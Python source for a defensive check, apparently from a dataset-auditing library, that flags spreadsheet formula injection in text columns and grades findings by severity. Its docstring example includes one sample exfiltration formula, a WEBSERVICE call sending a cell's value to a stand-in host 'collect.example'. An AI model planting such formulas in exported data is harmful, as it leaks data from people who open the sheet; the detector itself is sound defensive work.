"""Cells that a spreadsheet would run; see `FormulaCells`."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, ClassVar

from hauberk.core.artifact import Dataset
from hauberk.core.control import Check, NotApplicable
from hauberk.core.finding import Evidence, Finding, Level, Location, Severity
from hauberk.core.threat import ThreatId
from hauberk.formats.rows import cell_texts
from hauberk.methods.cell_formulas import CellFormula, may_be_formula, read_cell

_SHOWN = 1_000
_MIN_COLUMN = 20
_SAID = {
    CellFormula.PLAIN: "formulas to a spreadsheet",
    CellFormula.REACHES_OUT: "formulas that fetch or send from a spreadsheet",
    CellFormula.RUNS: "formulas that start programs from a spreadsheet",
}


@dataclass(frozen=True, slots=True, kw_only=True)
class FormulaCells(Check[Dataset]):
    """Texts that act as soon as somebody opens the rows in a spreadsheet.

    Each text column is judged cell by cell, whatever format holds it, because rows are exported
    and looked at by people. Links to other programs and functions that reach out are defects;
    usual functions are shown for review, and so is a column that mostly holds formulas.

    Limits:
        Nested cells, names of columns and formulas that begin inside of a text are not judged.
        Arithmetic and references without a function pass, and so do formulas below a sentence.

    Args:
        max_share: Share of a column's cells from which on formulas are what the column holds.

    Example:
        >>> import pyarrow as pa
        >>> from hauberk.formats.tables import table_of
        >>> notes = ["fine", "-5", '=WEBSERVICE("http://collect.example/?v="&A1)']
        >>> rows = pa.RecordBatch.from_pydict({"note": notes})
        >>> [found.message for found in FormulaCells().check(table_of("t", [rows]))]
        ['1 cells of note in t are formulas that fetch or send from a spreadsheet']

    References:
        OWASP, CSV injection. For what counts see `hauberk.methods.cell_formulas`.
    """

    title: ClassVar[str] = "Cells are formulas"
    threats: ClassVar[tuple[ThreatId, ...]] = (ThreatId("AQ-4"),)
    subject: ClassVar[Any] = Dataset

    max_share: float = 0.5

    def check(self, subject: Dataset) -> Iterator[Finding]:
        """At most one finding for each column that holds texts.

        Raises:
            NotApplicable: No column holds texts.
        """
        found: dict[str, dict[int, CellFormula]] = {}
        filled: dict[str, int] = {}
        offset = 0
        for batch in subject.read():
            for name in _text_columns(batch):
                cells = cell_texts(batch.column(name))
                filled[name] = filled.get(name, 0) + len(cells) - cells.null_count
                found.setdefault(name, {}).update(_formulas(cells, offset))
            offset += batch.num_rows
        if not filled:
            raise NotApplicable("no column holds texts")
        for name, rows in found.items():
            if rows:
                usual = filled[name] >= _MIN_COLUMN and len(rows) >= self.max_share * filled[name]
                yield _finding(subject, name, rows, filled[name], is_usual=usual)


def _text_columns(batch: Any) -> list[str]:
    import pyarrow.types as t

    def is_text(kind: Any) -> bool:
        kind = kind.value_type if t.is_dictionary(kind) else kind
        return bool(t.is_string(kind) or t.is_large_string(kind))

    return [field.name for field in batch.schema if is_text(field.type)]


def _formulas(cells: Any, offset: int) -> dict[int, CellFormula]:
    import pyarrow.compute as pc

    near = pc.fill_null(pc.match_substring_regex(cells, may_be_formula()), False)
    rows = pc.indices_nonzero(near)
    texts = cells.take(rows).to_pylist()
    kinds = ((row, read_cell(text)) for row, text in zip(rows.to_pylist(), texts, strict=True))
    return {offset + row: kind for row, kind in kinds if kind is not CellFormula.NONE}


def _finding(
    subject: Dataset, name: str, rows: dict[int, CellFormula], n_filled: int, *, is_usual: bool
) -> Finding:
    worst = max(rows.values())
    is_defect = worst > CellFormula.PLAIN and not is_usual
    order = sorted(rows, key=lambda row: (-rows[row], row))
    return Finding(
        message=f"{len(rows)} cells of {name} in {subject.name} are {_SAID[worst]}",
        path=subject.name,
        severity=Severity.HIGH if is_defect else Severity.LOW,
        level=Level.DEFECT if is_defect else Level.REVIEW,
        threats=FormulaCells.threats,
        location=Location(rows=tuple(order[:_SHOWN]), field=name),
        remedy="Quarantine the named rows, or write an apostrophe before the first sign of the "
        "cells; do not open the table in a spreadsheet before.",
        evidence=Evidence(
            statistic="cells that a spreadsheet takes for formulas",
            value=float(len(rows)),
            threshold=0.0,
            n=n_filled,
            facts={
                _SAID[kind]: f"{list(rows.values()).count(kind)} cells"
                for kind in sorted(set(rows.values()))
            },
        ),
    )
